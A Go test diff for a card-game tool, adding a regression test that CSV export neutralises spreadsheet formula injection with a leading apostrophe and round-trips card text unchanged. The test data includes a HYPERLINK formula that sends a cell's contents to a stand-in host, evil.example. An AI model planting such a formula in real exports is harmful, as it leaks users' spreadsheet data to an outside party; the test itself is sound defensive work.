@@ -447,3 +447,38 @@ func TestExportFormat(t *testing.T) {
 		t.Error("a game with errors was exported")
 	}
 }
+
+// TestExportCSVFormulaInjection: card text that a spreadsheet would run
+// as a formula (a pull request's =HYPERLINK that leaks the sheet) is
+// exported as text, with an apostrophe in front, and imported back into
+// the card file byte for byte; XLSX keeps it a string.
+func TestExportCSVFormulaInjection(t *testing.T) {
+	ws := sprint(t)
+	path := filepath.Join(ws, "sprint", "cards.yaml")
+	cards := strings.Replace(string(mustRead(t, path)), "rules: Draw a card.", `rules: '=HYPERLINK("http://evil.example/?leak="&B2,"Draw a card.")'`, 1)
+	cards = strings.Replace(cards, "rules: Take a banked card from the player on your left.", "rules: '-2 points, @ the end'", 1)
+	os.WriteFile(path, []byte(cards), 0o644)
+	if code, out, errOut := run(t, ws, "export", "csv", "sprint", "--out", "out"); code != 0 {
+		t.Fatalf("export: exit %d\n%s%s", code, out, errOut)
+	}
+	csv := string(mustRead(t, filepath.Join(ws, "out/sprint/sprint-main.csv")))
+	for _, want := range []string{`,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Draw a card."")"`, `,"'-2 points, @ the end"` + "\n"} {
+		if !strings.Contains(csv, want) {
+			t.Errorf("the CSV lacks %q:\n%s", want, csv)
+		}
+	}
+	for _, line := range strings.Split(csv, "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			if strings.HasPrefix(strings.TrimPrefix(cell, `"`), "=") {
+				t.Errorf("a cell starts a formula: %q", line)
+			}
+		}
+	}
+	code, out, errOut := run(t, ws, "import", "out/sprint/sprint-main.csv", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
+	if code != 0 {
+		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
+	}
+	if got := string(mustRead(t, path)); got != cards {
+		t.Errorf("the card file changed on the round trip:\n%s", got)
+	}
+}
